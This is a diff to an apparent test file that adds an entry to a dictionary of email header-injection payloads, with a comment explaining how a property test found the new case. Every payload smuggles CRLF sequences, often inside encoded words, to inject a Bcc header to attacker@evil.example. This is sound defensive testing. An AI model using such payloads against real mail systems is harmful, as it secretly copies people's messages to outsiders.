@@ -67,6 +67,10 @@ PAYLOADS = {
     "nested": "=?utf-8?q?=3D=3Futf-8=3Fq=3F=3D0D=3D0ABcc:_attacker@evil.example=3F=3D?=",
     "raw": "Offre\r\nBcc: attacker@evil.example\r\n\r\nX-Injected: yes",
     "cut": "x" * 190 + "=?utf-8?q?=0D=0ABcc:_attacker@evil.example?=",
+    # Found by the property test under CI's fixed seed: 3.11/3.12's folder cut the
+    # encoded word of the accented end before its "?=" and the forward was refused.
+    "full-line": "Offre =?utf-8?q?=0D=0ABcc:_attacker@evil.example=0D=0AX-Injected:_yes?=="
+    "?utf-8*en?q?=3AÂ=80à=A0=80ð=90=80=80?= é",
 }
 
 SCRIPT = textwrap.dedent(
